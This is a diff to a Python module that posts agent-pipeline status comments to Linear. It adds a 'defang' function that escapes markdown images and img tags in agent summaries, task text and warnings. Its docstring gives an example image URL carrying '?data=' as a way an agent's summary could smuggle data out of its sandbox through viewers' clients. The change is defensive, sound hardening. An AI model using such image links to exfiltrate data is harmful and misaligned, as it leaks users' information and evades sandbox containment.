@@ -8,6 +8,8 @@ never posts twice.
 
 from __future__ import annotations
 
+import re
+
 from adapters.linear import LinearClient, stable_comment_id
 from conveyor.config import Settings
 from conveyor.models import Notice
@@ -57,8 +59,15 @@ def _run_line(notice: Notice) -> str:
     return "Agent run: " + ", ".join(parts) if parts else ""
 
 
+def defang(text: str) -> str:
+    """Untrusted text (the agent's summary, task text, failure details) must not embed images:
+    every viewer's client fetches an image URL, so `![](https://x/?data=...)` in an agent summary
+    would carry data out of the sandbox. The markdown stays readable; the image becomes text."""
+    return re.sub(r"<(\s*img\b)", r"&lt;\1", text.replace("![", "!\\["), flags=re.I)
+
+
 def render_status(notice: Notice) -> str:
-    lines = [f"**Conveyor** task `{notice.task_id}` on `{notice.repo}`: **{notice.stage.value.replace('_', ' ')}**", "", notice.text]
+    lines = [f"**Conveyor** task `{notice.task_id}` on `{notice.repo}`: **{notice.stage.value.replace('_', ' ')}**", "", defang(notice.text)]
     if notice.change and notice.change.url:
         label = f"#{notice.change.number}" if notice.change.number else notice.change.branch
         lines += ["", f"Change: [{label}]({notice.change.url})"]
@@ -68,7 +77,7 @@ def render_status(notice: Notice) -> str:
     if run_line:
         lines += ["", run_line]
     if notice.warnings:
-        lines += ["", "Warnings:"] + [f"- {w}" for w in notice.warnings[:10]]
+        lines += ["", "Warnings:"] + [f"- {defang(w)}" for w in notice.warnings[:10]]
     if notice.ui_url:
         lines += ["", f"[Task in Temporal]({notice.ui_url})"]
     return "\n".join(lines).strip() + "\n"
@@ -82,7 +91,7 @@ def render_ping(notice: Notice) -> str:
             summary = notice.run.summary.strip()
             if len(summary) > _SUMMARY_CAP:
                 summary = summary[:_SUMMARY_CAP] + "\n[...]"
-            lines += ["", "**Why (from the agent):**", "", summary]
+            lines += ["", "**Why (from the agent):**", "", defang(summary)]
         run_line = _run_line(notice)
         if run_line:
             lines += ["", run_line]
@@ -93,4 +102,4 @@ def render_ping(notice: Notice) -> str:
     }.get(notice.kind, notice.kind)
     by = f" by {notice.decided_by}" if notice.decided_by else ""
     link = f" ({notice.change.url})" if notice.change and notice.change.url else ""
-    return f"Conveyor task `{notice.task_id}` {verb}{by}{link}: {notice.text}\n"
+    return f"Conveyor task `{notice.task_id}` {verb}{by}{link}: {defang(notice.text)}\n"
